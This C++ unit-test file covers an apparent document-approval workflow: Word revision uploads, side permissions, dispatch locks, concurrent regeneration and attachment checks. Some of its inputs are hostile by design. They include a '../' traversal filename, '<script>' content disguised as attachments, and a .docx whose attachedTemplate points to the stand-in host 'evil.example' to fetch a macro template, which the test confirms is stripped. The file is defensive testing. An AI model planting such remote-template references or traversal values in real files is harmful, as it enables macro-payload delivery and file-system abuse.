#include <doctest/doctest.h>

#include <atomic>
#include <thread>

#include "documents/document_repository.h"
#include "support/world.h"
#include "unit/docx/documents.h"

using namespace entente;
using namespace entente::approvals;
using test::World;

namespace {

constexpr const char* kSignatory = "signatory@mois.example";

template <typename T>
std::string keyOf(const Result<T>& result) {
    return result ? "" : result.error().message.key;
}

}  // namespace

TEST_CASE("an upload is a Word document on the revision that was edited, by the side that writes it") {
    World world;
    const auto instance = world.upToSignature();
    const auto letter = world.document(instance, "cohost_request").id;
    const auto edited = world.edited(letter, "By hand");
    auto& approvals = *world.approvals;
    CHECK(keyOf(approvals.uploadRevision(letter, world.partners(), {"a.docx", edited}, 1)) == "approvals.may_not");
    CHECK(keyOf(approvals.uploadRevision(letter, world.account("admin@mois.example"), {"a.docx", edited}, 1)) ==
          "approvals.may_not");
    CHECK(keyOf(approvals.uploadRevision(DocumentId{99}, world.ours(), {"a.docx", edited}, 1)) ==
          "approvals.no_document");
    CHECK(keyOf(approvals.uploadRevision(letter, world.ours(), {"a.docx", ""}, 1)) == "approvals.no_file");
    CHECK(!approvals.uploadRevision(letter, world.ours(), {"a.docx", "no zip"}, 1));
    CHECK(approvals.uploadRevision(letter, world.ours(), {"a.docx", edited}, 1, "two\nlines").error().place == "note");
    for (const int stale : {-1, 0, 2})
        CHECK(keyOf(approvals.uploadRevision(letter, world.ours(), {"a.docx", edited}, stale)) == "documents.newer");
    CHECK(world.newest(letter).number == 1);

    const auto uploaded = approvals.uploadRevision(letter, world.ours(), {"../page.html", edited}, 1);
    REQUIRE(uploaded);
    CHECK(uploaded->revision.fileName == "page.html.docx");
    CHECK(uploaded->notes.empty());
    // A double click.
    const auto again = approvals.uploadRevision(letter, world.ours(), {"../page.html", edited}, 1);
    REQUIRE(again);
    CHECK(again->revision.id == uploaded->revision.id);
    CHECK(world.number("SELECT edition FROM task WHERE element_id = 'sign_letter'") == 2);
}

TEST_CASE("a document that both sides read is changed by the side that made it alone") {
    World world;
    const auto instance = world.upToSignature();
    const auto note = world.document(instance, "concept_note").id;
    const auto edited = world.edited(note, "By hand");
    world.database->write(
        [&](storage::Tx& tx) { tx.run("UPDATE document SET visibility = 'shared', side = 'B' WHERE id = $1", note); });
    auto& approvals = *world.approvals;
    CHECK(keyOf(approvals.uploadRevision(note, world.ours(), {"a.docx", edited}, 1)) == "approvals.may_not");
    CHECK(keyOf(approvals.regenerate(note, world.ours(), "request 1", 1)) == "approvals.may_not");
    CHECK(keyOf(approvals.attach(note, world.ours(), {"a.pdf", "%PDF-1.4\n%%EOF"})) == "approvals.may_not");
    CHECK(world.newest(note).number == 1);
    const auto theirs = approvals.uploadRevision(note, world.partners(), {"a.docx", edited}, 1);
    REQUIRE(theirs);
    CHECK(theirs->revision.number == 2);
}

TEST_CASE("what was approved is sent, and what was sent is answered: until then it is kept as it is") {
    World world;
    const auto instance = world.upToDispatch();
    const auto letter = world.document(instance, "cohost_request").id,
               note = world.document(instance, "concept_note").id;
    for (const auto document : {letter, note}) {
        CHECK(keyOf(world.approvals->uploadRevision(document, world.ours(), {"a.docx", world.edited(document, "x")},
                                                    1)) == "approvals.kept_for_dispatch");
        CHECK(keyOf(world.approvals->regenerate(document, world.ours(), "request 1", 1)) ==
              "approvals.kept_for_dispatch");
    }
    REQUIRE(world.dispatch(instance));
    for (const auto document : {letter, note})
        CHECK(keyOf(world.approvals->uploadRevision(document, world.ours(), {"a.docx", world.edited(document, "x")},
                                                    1)) == "approvals.kept_for_answer");
    world.settle();
    auto fields = test::replyFields("another_ministry");
    fields.emplace_back("reply.otherMinistry", "Ministry of Justice");
    REQUIRE(world.approvals->answer(world.linkOf("addressee@partner.example"), fields, {}));
    world.settle();
    REQUIRE(world.approvals->uploadRevision(letter, world.ours(), {"a.docx", world.edited(letter, "x")}, 1));
    // The next draft is not the partner's to see before it is sent.
    const auto seen = world.database->read([&](storage::ReadTx& tx) {
        const documents::DocumentRepository repository;
        return repository.revisionsFor(tx, *repository.find(tx, letter), 'B', 0, 10);
    });
    REQUIRE(seen.size() == 1);
    CHECK(seen.front().number == 1);
}

TEST_CASE("generating again makes one revision for one request, and new links") {
    World world;
    const auto instance = world.upToSignature();
    const auto letter = world.document(instance, "cohost_request").id;
    REQUIRE(world.approvals->uploadRevision(letter, world.ours(), {"a.docx", world.edited(letter, "By hand")}, 1));
    world.settle();
    CHECK(keyOf(world.approvals->regenerate(letter, world.partners(), "request 1", 2)) == "approvals.may_not");
    CHECK(keyOf(world.approvals->regenerate(letter, world.ours(), "request 1", 1)) == "documents.newer");

    std::atomic<int> made = 0;
    std::vector<std::thread> threads;
    for (int i = 0; i < 8; ++i)
        threads.emplace_back([&] {
            const auto revision = world.approvals->regenerate(letter, world.ours(), "request 2", 2);
            if (revision && revision->number == 3) ++made;
        });
    for (auto& thread : threads)
        thread.join();
    CHECK(made == 8);
    CHECK(world.newest(letter).number == 3);
    CHECK(world.newest(letter).origin == documents::Origin::Generated);
    CHECK(world.newest(world.document(instance, "cohost_request", "ko").id).number == 1);
    CHECK(world.number("SELECT edition FROM task WHERE element_id = 'sign_letter'") == 3);
    CHECK(world.linkOf(kSignatory).state == LinkState::Superseded);
    world.settle();
    CHECK(world.decide(kSignatory, "approve")->counted);
}

TEST_CASE("attachments are kept as they come, once, by the side that writes the document") {
    World world;
    const auto instance = world.upToSignature();
    const auto letter = world.document(instance, "cohost_request").id;
    const auto attach = [&](const identity::Account& account, const std::string& name, const std::string& bytes) {
        return world.approvals->attach(letter, account, {name, bytes});
    };
    CHECK(keyOf(attach(world.partners(), "map.pdf", "%PDF-1.7")) == "approvals.may_not");
    CHECK(keyOf(attach(world.ours(), "map.pdf", "")) == "approvals.no_attachment");
    CHECK(keyOf(attach(world.ours(), "map.html", "<script>")) == "documents.file_kind");
    CHECK(keyOf(attach(world.ours(), "map.pdf", "<script>")) == "documents.file_content");
    const auto id = attach(world.ours(), "map.pdf", "%PDF-1.7 a map");
    REQUIRE(id);
    CHECK(*attach(world.ours(), "map.pdf", "%PDF-1.7 a map") == *id);
    CHECK(*attach(world.ours(), "map.pdf", "%PDF-1.7 another map") != *id);
    const auto list = world.database->read(
        [&](storage::ReadTx& tx) { return documents::DocumentRepository().attachmentsOf(tx, letter); });
    REQUIRE(list.size() == 2);
    CHECK(list.front().mediaType == "application/pdf");
    CHECK(list.front().side == 'A');
}

TEST_CASE("the reference to an attached template is taken out of an upload, and said") {
    World world;
    const auto instance = world.upToSignature();
    const auto letter = world.document(instance, "cohost_request").id;
    auto parts = docx::testing::parts("<w:p/>");
    parts["word/settings.xml"] =
        std::string("<w:settings ") + docx::testing::wNamespaces + "><w:attachedTemplate r:id=\"rId1\"/></w:settings>";
    parts["word/_rels/settings.xml.rels"] =
        "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship "
        "Id=\"rId1\" "
        "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" "
        "Target=\"http://evil.example/a.dotm\" TargetMode=\"External\"/></Relationships>";
    auto& rels = parts["word/_rels/document.xml.rels"];
    rels.insert(rels.rfind("</Relationships>"),
                "<Relationship Id=\"rId9\" "
                "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings\" "
                "Target=\"settings.xml\"/>");
    auto& types = parts["[Content_Types].xml"];
    types.insert(types.rfind("</Types>"),
                 "<Override PartName=\"/word/settings.xml\" "
                 "ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml\"/>");
    const auto uploaded =
        world.approvals->uploadRevision(letter, world.ours(), {"a.docx", docx::testing::packed(parts)}, 1);
    REQUIRE_MESSAGE(uploaded.ok(), (uploaded ? "" : uploaded.error().message.english()));
    CHECK(uploaded->notes.size() == 1);
    CHECK(world.newestBytes(letter).find("evil.example") == std::string::npos);
}
